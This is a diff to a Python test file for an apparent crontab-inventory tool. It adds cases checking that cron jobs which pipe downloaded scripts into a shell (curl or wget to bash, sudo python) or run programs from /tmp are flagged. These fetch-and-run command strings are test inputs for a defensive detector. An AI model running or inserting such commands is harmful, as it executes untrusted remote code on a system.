@@ -4,6 +4,8 @@ import shutil
 import tempfile
 from pathlib import Path
 
+import pytest
+
 from tabletest import make_root, read_table, rows, rows_of
 
 CRON = {"/usr/sbin/cron": "", "/var/lib/dpkg/status": ""}
@@ -97,6 +99,26 @@ def test_passwords_in_commands_are_not_shown(tmp_path):
     assert found[0]["command"] == "mysqldump ****"
     assert found[0]["secret"] != ""
     assert not any("unter2" in str(row) or "geheim" in str(row) for row in found)
+
+
+@pytest.mark.parametrize(
+    ("command", "download", "temporary"),
+    [
+        ("curl -s http://203.0.113.9/x.sh | bash", 1, 0),
+        ("wget -qO- http://x.example/a | sudo /usr/bin/python3 -", 1, 0),
+        ('sh -c "$(curl -fsSL https://x.example)"', 1, 0),
+        ("bash <(curl -s https://x.example)", 1, 0),
+        ("curl -fsS https://hc.example.org/ping | logger", 0, 0),
+        ("echo x | sh; curl https://x.example", 0, 0),
+        ("/tmp/.x/update >/dev/null", 0, 1),
+        ("cd / && sh -x /var/tmp/a.sh", 0, 1),
+        ("find /tmp/cache -mtime +7 -delete", 0, 0),
+        ("cp a /tmp/b", 0, 0),
+    ],
+)
+def test_jobs_that_run_downloads_or_temporary_programs_are_marked(tmp_path, command, download, temporary):
+    (row,) = rows("crontab", cron_root(tmp_path, {"/etc/crontab": f"@daily root {command}\n"}))
+    assert (row["runs_download"], row["runs_temporary"]) == (download, temporary)
 
 
 def test_closed_crontabs_make_the_answer_partial(as_nobody):
